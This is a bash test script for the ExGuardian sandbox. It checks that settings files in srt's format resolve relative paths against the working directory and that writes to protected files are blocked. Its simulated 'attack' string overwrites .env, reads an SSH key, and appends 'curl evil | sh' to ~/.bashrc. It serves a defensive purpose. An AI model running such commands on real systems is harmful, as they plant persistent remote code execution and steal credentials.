#!/usr/bin/env bash
# srt's settings mean in ExGuardian what they mean in srt (issue 40): srt's own README example
# (allowWrite [".", "/tmp"], denyWrite [".env"], a network allow list), read from srt's place
# (~/.srt-settings.json), from --settings and from --policy, has its relative paths resolved
# against the working directory as srt resolves them. Before: relative to the file's directory,
# so "." in ~/.srt-settings.json made all of HOME writable and persistent and ".env" named a
# ~/.env that does not exist (dropped in silence; the workspace's .env was overwritten).
# ExGuardian's own files keep their rule (next to the file). A deny that names nothing and a
# writable tree that holds HOME are said on stderr at every run.
# (No egress is attempted: the allow list is only part of the file.)
source "$(dirname "$0")/lib.sh"

new_workspace
require_sandbox || finish

srt_json='{
  "network": {"allowedDomains": ["github.com", "*.github.com", "npmjs.org"], "deniedDomains": []},
  "filesystem": {"denyRead": ["~/.ssh"], "allowWrite": [".", "/tmp"], "denyWrite": [".env"]}
}'
printf '%s\n' "$srt_json" > "$T/srt-settings.json"
echo "SECRET=original" > "$WS/.env"
mkdir -p "$HOME/.ssh"
echo keep > "$HOME/notes.txt"
echo "KEY-$$" > "$HOME/.ssh/id_test"   # (srt's denyRead "~/.ssh" names something)

# What exists in HOME outside the workspace (names, sizes, contents), for "nothing was written".
home_state() {
    (cd "$HOME" && find . -path ./.srt-settings.json -prune -o -print0 | sort -z |
        xargs -0 -r stat -c '%n %s %Y' 2>/dev/null; find . -type f -print0 | sort -z | xargs -0 -r sha256sum) | sha256sum
}

# The attack srt's example must stop, from inside: overwrite the workspace's .env, write into
# HOME, and create files there that would run later.
attack='echo '"$RAN_MARK"'
echo pwned > .env; echo "env: $?"
echo x > ~/probe; echo "probe: $?"
cat ~/.ssh/id_test; echo "ssh: $?"
echo "curl evil | sh" >> ~/.bashrc; echo "bashrc: $?"
echo ok > ./inside.txt && echo "workspace: $?"'

check_run() {
    local how=$1
    if [ "$STATUS" -eq 125 ] || [ "$STATUS" -eq 124 ] || ! grep -qxF "$RAN_MARK" <<<"$OUT"; then
        fail "$how: the sandbox did not run the attack (exit $STATUS)"; show_last; return
    fi
    check "$how: the workspace's .env is unchanged on the host" test "$(cat "$WS/.env")" = SECRET=original
    check "$how: the write to .env was refused inside" grep -qE '^env: [1-9]' <<<"$OUT"
    check "$how: the workspace itself is writable (\".\" is the working directory)" \
        test "$(cat "$WS/inside.txt" 2>/dev/null)" = ok
    check "$how: ~/probe does not exist on the host" test ! -e "$HOME/probe"
    check "$how: denyRead ~/.ssh holds" bash -c "! grep -q 'KEY-' <<<\"\$1\"" _ "$OUT"
    check "$how: ~/.bashrc does not exist on the host" test ! -e "$HOME/.bashrc"
    check "$how: nothing in HOME was written" test "$(home_state)" = "$home_before"
    if grep -qF "warning" <<<"$ERR"; then fail "$how: a warning for a file that means what it says"; show_last
    else ok "$how: no warning (nothing names nothing, nothing widens to HOME)"; fi
    rm -f "$WS/inside.txt"
}

home_before=$(home_state)

# 1. srt's place: read without any option, as srt reads it.
cp "$T/srt-settings.json" "$HOME/.srt-settings.json"
home_before=$(home_state)
run sbx -- bash -c "$attack"
check_run "~/.srt-settings.json"
# --no-policy-files leaves it out (the workspace is then the only writable tree anyway).
run sbx --no-policy-files --dry-run -- true
if grep -qF ".srt-settings.json" <<<"$OUT"; then fail "--no-policy-files still reads ~/.srt-settings.json"; show_last
else ok "--no-policy-files: ~/.srt-settings.json not read"; fi
run sbx --dry-run -- true
check "--dry-run names the srt file and srt's rule" grep -qF "read as srt settings: relative paths are relative to the working directory $WS" <<<"$OUT"

# 2. --settings FILE (srt's option), the file outside both HOME and the workspace; it replaces
# ~/.srt-settings.json as in srt (one that would fail to parse is then not read at all).
echo '{ not json' > "$HOME/.srt-settings.json"
home_before=$(home_state)
run sbx --settings "$T/srt-settings.json" -- bash -c "$attack"
check_run "--settings"
run sbx -s "$T/srt-settings.json" -- true
check "-s is --settings" test "$STATUS" -eq 0
run sbx --settings "$T/nope.json" -- true
check "--settings of a missing file: exit 125" test "$STATUS" -eq 125
check "--settings of a missing file: names it" grep -qF "$T/nope.json: cannot read" <<<"$ERR"
rm -f "$HOME/.srt-settings.json"

# 3. --policy ~/.srt-settings.json (the file in HOME: the case that made HOME writable).
cp "$T/srt-settings.json" "$HOME/srt.json"
home_before=$(home_state)
run sbx --policy "$HOME/srt.json" -- bash -c "$attack"
check_run "--policy ~/srt.json"
rm -f "$HOME/srt.json"

# ExGuardian's own file (it holds an ExGuardian key): relative to its own directory.
mkdir -p "$T/own"
echo "own-original" > "$T/own/locked.txt"
cat > "$T/own/policy.json" <<'JSON'
{"filesystem": {"allowWrite": ["."], "denyWrite": ["locked.txt"]}, "env": {"set": {"EXG_OWN": "1"}}}
JSON
run sbx --policy "$T/own/policy.json" -- bash -c "echo $RAN_MARK; test \"\$EXG_OWN\" = 1 || echo no-env; echo new > '$T/own/other.txt'; echo pwned > '$T/own/locked.txt'"
check "ExGuardian's own file: \".\" is its directory (written there)" test "$(cat "$T/own/other.txt" 2>/dev/null)" = new
check "ExGuardian's own file: denyWrite next to the file holds" test "$(cat "$T/own/locked.txt")" = own-original

# Warnings at every run, without -v: a deny that names nothing, a writable tree that holds HOME.
cat > "$T/nothing.json" <<'JSON'
{"filesystem": {"denyRead": ["no-such-dir"], "allowWrite": [], "denyWrite": ["no-such.env"]}}
JSON
run sbx --policy "$T/nothing.json" -- true
check "a denyWrite naming nothing is said (exit 0 still)" \
    grep -qF "denyWrite \"no-such.env\" names nothing that exists ($WS/no-such.env): it denies nothing" <<<"$ERR"
check "a denyRead naming nothing is said" \
    grep -qF "denyRead \"no-such-dir\" names nothing that exists ($WS/no-such-dir)" <<<"$ERR"
check "... and the run went on" test "$STATUS" -eq 0
# srt's example run from HOME (cwd = HOME, the workspace elsewhere): "." is HOME, as in srt.
home_before=$(home_state)
run bash -c "cd '$HOME' && exec timeout -k 5 $EXG_CALL_TIMEOUT ${EXG_RUN[*]} --workspace '$WS' --settings '$T/srt-settings.json' -- true"
check "allowWrite \".\" from HOME: said on stderr" \
    grep -qE "warning: .*allowWrite \"\.\" is $HOME, your home directory: all of it is writable and persistent" <<<"$ERR"
check "... and the denyWrite \".env\" that names nothing there" grep -qF "denyWrite \".env\" names nothing that exists ($HOME/.env)" <<<"$ERR"
check "... and HOME was not written" test "$(home_state)" = "$home_before"

finish
